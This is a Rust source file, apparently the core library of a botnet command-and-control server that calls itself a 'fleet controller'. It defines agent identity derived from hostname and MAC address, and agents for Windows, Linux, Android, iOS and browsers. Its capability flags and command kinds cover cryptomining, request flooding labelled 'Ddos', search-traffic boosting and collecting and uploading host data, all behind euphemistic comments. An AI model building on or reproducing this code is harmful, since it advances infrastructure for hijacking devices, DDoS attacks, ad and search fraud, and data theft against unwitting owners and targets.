//! Core types and error definitions for the Muster fleet controller.
//!
//! This crate provides the foundational vocabulary shared across all Muster
//! crates: the error taxonomy, agent identity and capability types, command
//! kinds, runtime configuration, and the sealing primitives used for
//! encrypted-at-rest payloads.
//!
//! # Main types
//!
//! - [`MusterError`] — Unified error enum for all Muster subsystems.
//! - [`MusterResult`] — Convenience alias for `Result<T, MusterError>`.
//! - [`CapabilitySet`] — Capability flags an agent declares at registration.
//! - [`CommandKind`] — The dispatchable command categories.
//! - [`config::MusterConfig`] — Runtime configuration, constructed once at
//!   boot and injected into every component.
//! - [`seal::Sealer`] — Authenticated encryption for stored payloads.

/// Runtime configuration loading and defaults.
pub mod config;
/// Authenticated encryption and checksum helpers for stored payloads.
pub mod seal;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

// --- Error types ---

/// Top-level error type for the Muster fleet controller.
///
/// Each variant corresponds to a failure class a subsystem can produce.
#[derive(Debug, thiserror::Error)]
pub enum MusterError {
    /// A referenced record (agent, command, campaign, artifact) does not exist.
    #[error("Not found: {0}")]
    NotFound(String),

    /// A command state change that the state machine does not allow.
    #[error("Invalid transition: {0}")]
    InvalidTransition(String),

    /// A command kind requires a capability the target agent did not declare.
    #[error("Capability mismatch: {0}")]
    CapabilityMismatch(String),

    /// Malformed or out-of-range input.
    #[error("Validation error: {0}")]
    Validation(String),

    /// The orchestrator's worker ceiling has been reached.
    #[error("Capacity limit: {0}")]
    Capacity(String),

    /// An encryption, decryption, or integrity failure on a sealed payload.
    #[error("Sealing error: {0}")]
    Sealing(String),

    /// An error from a persistence backend.
    #[error("Storage error: {0}")]
    Storage(String),

    /// A JSON serialization or deserialization error.
    #[error("JSON error: {0}")]
    Json(#[from] serde_json::Error),

    /// A standard I/O error.
    #[error("IO error: {0}")]
    Io(#[from] std::io::Error),
}

/// A convenience `Result` alias using [`MusterError`].
pub type MusterResult<T> = Result<T, MusterError>;

// --- Agent identity ---

/// Derives the stable agent identifier from host-identifying attributes.
///
/// Agents present this identifier on every registration, which makes
/// re-registration after a restart an upsert rather than a duplicate. The
/// derivation is SHA-256 over `hostname`, a NUL separator, and a hardware
/// token (MAC address or machine id), truncated to 16 hex characters.
pub fn derive_agent_id(hostname: &str, machine_token: &str) -> String {
    let mut hasher = Sha256::new();
    hasher.update(hostname.as_bytes());
    hasher.update(b"\0");
    hasher.update(machine_token.as_bytes());
    let mut id = hex::encode(hasher.finalize());
    id.truncate(16);
    id
}

/// The operating platform an agent reported at registration.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Platform {
    /// Windows hosts.
    Windows,
    /// Linux hosts.
    Linux,
    /// Android devices.
    Android,
    /// iOS devices.
    Ios,
    /// In-browser agents.
    Web,
}

impl Platform {
    /// The lowercase wire name, used as an aggregation key in fleet stats.
    pub fn as_str(&self) -> &'static str {
        match self {
            Platform::Windows => "windows",
            Platform::Linux => "linux",
            Platform::Android => "android",
            Platform::Ios => "ios",
            Platform::Web => "web",
        }
    }
}

/// The kind of client runtime an agent is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AgentKind {
    /// Interpreted script client.
    Script,
    /// Browser-embedded client.
    Browser,
    /// Mobile app client.
    Mobile,
    /// Compiled native client.
    Native,
}

/// Soft status an agent self-reports.
///
/// Distinct from liveness, which is always derived from `last_contact` and
/// never stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AgentStatus {
    /// Checking in and accepting work.
    Online,
    /// Not currently checking in.
    Offline,
    /// Checking in but saturated with work.
    Busy,
}

/// Capability flags an agent declares at registration.
///
/// Command enqueue and campaign eligibility are gated on these flags; an
/// agent is never sent work it did not declare support for.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CapabilitySet {
    /// May run hash-computation workloads.
    #[serde(default)]
    pub can_mine: bool,
    /// May run request-flood workloads.
    #[serde(default)]
    pub can_flood: bool,
    /// May run search-traffic workloads.
    #[serde(default)]
    pub can_boost: bool,
    /// May collect and upload host data.
    #[serde(default)]
    pub can_collect: bool,
}

impl CapabilitySet {
    /// Whether this capability set permits commands of the given kind.
    ///
    /// `system`, `network` and `special` commands are ungated.
    pub fn permits(&self, kind: CommandKind) -> bool {
        match kind {
            CommandKind::Mining => self.can_mine,
            CommandKind::Ddos => self.can_flood,
            CommandKind::Seo => self.can_boost,
            CommandKind::Data => self.can_collect,
            CommandKind::System | CommandKind::Network | CommandKind::Special => true,
        }
    }
}

/// Hardware resources an agent reported at registration.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResourceProfile {
    /// Logical CPU cores.
    #[serde(default)]
    pub cpu_cores: u32,
    /// Total memory in bytes.
    #[serde(default)]
    pub memory_bytes: u64,
    /// Total disk in bytes.
    #[serde(default)]
    pub disk_bytes: u64,
}

// --- Command vocabulary ---

/// The category of a dispatched command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CommandKind {
    /// Host-level operations.
    System,
    /// Connectivity probes and lookups.
    Network,
    /// Data collection; requires [`CapabilitySet::can_collect`].
    Data,
    /// Controller-defined extended operations.
    Special,
    /// Search-traffic work; requires [`CapabilitySet::can_boost`].
    Seo,
    /// Hash-computation work; requires [`CapabilitySet::can_mine`].
    Mining,
    /// Request-flood work; requires [`CapabilitySet::can_flood`].
    Ddos,
}

impl CommandKind {
    /// The lowercase wire name.
    pub fn as_str(&self) -> &'static str {
        match self {
            CommandKind::System => "system",
            CommandKind::Network => "network",
            CommandKind::Data => "data",
            CommandKind::Special => "special",
            CommandKind::Seo => "seo",
            CommandKind::Mining => "mining",
            CommandKind::Ddos => "ddos",
        }
    }
}
